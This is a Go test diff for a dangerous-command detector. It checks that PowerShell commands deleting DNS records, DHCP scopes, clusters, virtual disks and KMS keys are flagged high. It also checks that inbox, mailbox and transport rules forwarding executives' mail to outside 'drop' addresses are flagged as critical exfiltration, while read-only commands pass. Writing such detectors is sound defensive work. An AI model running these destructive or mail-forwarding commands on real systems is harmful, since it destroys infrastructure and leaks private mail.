@@ -772,3 +772,30 @@ func TestDatabaseSuperusersAndLogs(t *testing.T) {
 		`psql -c "SELECT slot_name FROM pg_replication_slots"`,
 	})
 }
+
+// From round13a's Windows lines: servers' own modules deleting (DNS,
+// DHCP, clusters, storage spaces, Hyper-V disks, KMS keys),
+// and mail forwarded out of a mailbox or the organisation.
+func TestWindowsServerModulesAndMailForwarding(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`Remove-DnsServerResourceRecord -ZoneName acme.internal -Name api -RRType A -ComputerName dc01 -Force`, "", "win-cloud-delete", LevelHigh},
+		{`Remove-DhcpServerv4Scope -ComputerName dhcp01 -ScopeId 10.0.0.0 -Force`, "", "win-cloud-delete", LevelHigh},
+		{`Remove-Cluster -Cluster sqlclu-prod -Force -CleanupAD`, "", "win-cloud-delete", LevelHigh},
+		{`Remove-VirtualDisk -FriendlyName DataSpace -Confirm:$false`, "", "win-cloud-delete", LevelHigh},
+		{`Request-KMSKeyDeletion -KeyId alias/acme-prod-data -PendingWindowInDay 7`, "", "win-cloud-delete", LevelHigh},
+		{`New-InboxRule -Mailbox ceo@acme.example.com -Name fwd -ForwardTo drop@example.com`, CategoryExfiltration, "win-mail-forwarded-out", LevelCritical},
+		{`Set-Mailbox -Identity cfo@acme.example.com -ForwardingSmtpAddress smtp:drop@example.net -DeliverToMailboxAndForward $true`, CategoryExfiltration, "win-mail-forwarded-out", LevelCritical},
+		{`New-TransportRule -Name archive -SentToScope NotInOrganization -BlindCopyTo drop@example.com`, CategoryExfiltration, "win-mail-forwarded-out", LevelCritical},
+	})
+	checkSafe(t, d, ps, []string{
+		`Get-DnsServerResourceRecord -ZoneName acme.internal -Name api`,
+		`Get-IISSite`,
+		`Get-SmbShare`,
+		`Remove-SmbShare -Name AcmeDevScratch -Force`,
+		`Remove-WebAppPool -Name AcmeDevPool`,
+		`Get-InboxRule -Mailbox dev@acme.example.com`,
+		`Set-Mailbox -Identity dev@acme.example.com -AuditEnabled $true`,
+	})
+}
